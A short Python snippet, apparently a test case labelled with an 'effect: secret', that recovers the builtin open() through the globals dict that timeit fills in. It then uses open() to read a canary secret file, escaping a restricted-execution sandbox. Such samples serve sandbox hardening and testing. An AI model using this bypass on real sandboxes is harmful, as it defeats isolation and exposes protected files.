# source: own
# effect: secret

import timeit

table = {}
timeit.timeit("1", number=1, globals=table)
print([value for value in table.values() if "open" in value][0]["open"]("/tmp/canary/secret").read())
